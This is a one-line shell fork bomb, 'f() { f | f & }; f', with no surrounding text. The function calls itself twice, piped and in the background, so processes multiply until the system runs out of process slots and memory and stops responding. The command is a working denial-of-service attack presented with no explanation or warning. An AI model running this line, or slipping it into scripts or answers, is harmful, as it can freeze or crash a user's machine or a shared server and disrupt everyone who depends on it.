f() { f | f & }; f
